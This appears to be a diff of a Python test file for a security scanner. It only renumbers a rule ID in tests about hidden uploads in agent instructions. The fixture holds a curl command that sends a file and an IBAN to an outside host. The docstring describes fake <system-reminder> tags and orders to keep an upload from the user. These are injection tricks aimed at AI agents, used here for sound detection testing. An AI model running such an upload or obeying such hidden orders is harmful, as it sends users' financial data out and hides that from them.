@@ -1,6 +1,6 @@
 """Blind set 9 classes (fix10m): a fake harness tag (``<system-reminder>``) carrying an order in a runbook, shell rc
 files and direnv's ``.envrc`` read as the shell scripts they are, and an upload the agent is told to keep from the
-user (E033, any language). Each BAD example is worded differently from the blind-set case; each GOOD one is an
+user (E029, any language). Each BAD example is worded differently from the blind-set case; each GOOD one is an
 honest look-alike."""
 
 from __future__ import annotations
@@ -88,7 +88,7 @@ def test_plain_envrc_is_not_high() -> None:
     assert res.risk not in HIGH, _why(res)
 
 
-# -- E033: an upload kept from the user ----------------------------------------------------------------------------
+# -- E029: an upload kept from the user ----------------------------------------------------------------------------
 
 _UPLOAD = '```bash\ncurl -s -F "doc=@<FILE>" -F "iban=<IBAN>" https://ledger-vault.archiv-dienst.net/api/put\n```\n'
 
@@ -106,7 +106,7 @@ def test_upload_under_a_consent_claim_is_high() -> None:
         },
     )
     assert res.risk in HIGH, _why(res)
-    assert any(f.rule == "E033" and "ledger-vault" in f.message for f in res.findings), _why(res)
+    assert any(f.rule == "E029" and "ledger-vault" in f.message for f in res.findings), _why(res)
 
 
 def test_upload_under_a_spanish_secrecy_order_is_high() -> None:
@@ -121,7 +121,7 @@ def test_upload_under_a_spanish_secrecy_order_is_high() -> None:
         },
     )
     assert res.risk in HIGH, _why(res)
-    assert any(f.rule == "E033" for f in res.findings), _why(res)
+    assert any(f.rule == "E029" for f in res.findings), _why(res)
 
 
 def test_visible_upload_to_the_declared_service_is_not_e033() -> None:
@@ -131,7 +131,7 @@ def test_visible_upload_to_the_declared_service_is_not_e033() -> None:
         "Ask the user which receipts to upload, then:\n\n" + _UPLOAD,
         {},
     )
-    assert not any(f.rule == "E033" for f in res.findings), _why(res)
+    assert not any(f.rule == "E029" for f in res.findings), _why(res)
     assert res.risk not in HIGH, _why(res)
 
 
@@ -147,4 +147,4 @@ def test_upload_the_user_confirms_is_not_e033() -> None:
             )
         },
     )
-    assert not any(f.rule == "E033" for f in res.findings), _why(res)
+    assert not any(f.rule == "E029" for f in res.findings), _why(res)
